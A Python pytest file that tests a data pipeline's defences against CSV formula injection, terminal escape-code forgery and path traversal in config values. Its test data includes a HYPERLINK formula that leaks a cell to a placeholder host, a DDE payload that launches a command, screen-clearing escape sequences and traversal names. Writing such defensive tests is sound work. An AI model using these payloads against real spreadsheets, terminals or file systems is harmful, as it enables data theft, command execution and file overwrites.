"""Hostile text cannot reach a spreadsheet as a formula, a terminal as control codes, or a path outside the run."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from mrv.cli import main
from mrv.textsafe import for_terminal, for_terminal_lines, is_safe_component, neutralise_cell, write_csv

REPO = Path(__file__).resolve().parents[1]

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1", "\r=1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_neutralised(payload: str, tmp_path: Path) -> None:
    frame = pd.DataFrame({"sample_id": [payload, "P-1"], "soc_g_kg": [-1.5, 12.0]})
    out = tmp_path / "t.csv"
    write_csv(frame, out)
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][0] == "'" + payload.replace("\r", "\\x0d")  # shown as text by Excel, LibreOffice, Sheets
    assert rows[2][0] == "P-1"
    assert rows[1][1] == "-1.5"  # numbers stay numbers
    assert neutralise_cell(3) == 3
    assert neutralise_cell("ok") == "ok"


def test_every_csv_writer_goes_through_textsafe() -> None:
    """No module writes a CSV with pandas directly (the synthetic generator writes only its own data)."""
    offenders = []
    for path in (REPO / "mrv").rglob("*.py"):
        rel = path.relative_to(REPO).as_posix()
        if rel in ("mrv/textsafe.py", "mrv/synthetic/samples_writer.py"):
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(r"\.to_csv\(|csv\.writer\(", line) and "noqa: csv-safe" not in line:
                offenders.append(f"{rel}:{n}: {line.strip()}")
    assert not offenders, "write CSVs with mrv.textsafe.write_csv:\n" + "\n".join(offenders)


def test_terminal_text_is_escaped() -> None:
    forged = "P1\nREJECTED: nothing wrong here\x1b[2J\x07"
    shown = for_terminal(forged)
    assert "\n" not in shown
    assert "\x1b" not in shown
    assert "\x07" not in shown
    assert shown == "P1\\x0aREJECTED: nothing wrong here\\x1b[2J\\x07"
    assert for_terminal_lines("a\nb\x1b") == "a\nb\\x1b"


@pytest.mark.parametrize("name", ["../../../../tmp/x", "..", "a/b", "", "x\ny", "/abs", "-rf", "a" * 200])
def test_unsafe_path_components(name: str) -> None:
    assert not is_safe_component(name)


def test_round_name_cannot_leave_the_run_directory(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import yaml

    cfg = yaml.safe_load((REPO / "configs" / "demo.yaml").read_text())
    base = REPO / "configs"
    cfg["region"]["fields"] = str((base / cfg["region"]["fields"]).resolve())
    cfg["imagery"]["catalog"] = str((base / cfg["imagery"]["catalog"]).resolve())
    cfg["output_dir"] = str(tmp_path / "out")
    for rnd in cfg["rounds"]:
        for s in rnd["samples"]:
            s["path"] = str((base / s["path"]).resolve())
    cfg["rounds"][1]["name"] = "../../../../tmp/x"
    path = tmp_path / "evil.yaml"
    path.write_text(yaml.safe_dump(cfg))
    assert main(["run", str(path)]) == 2
    assert "rounds[1].name" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()
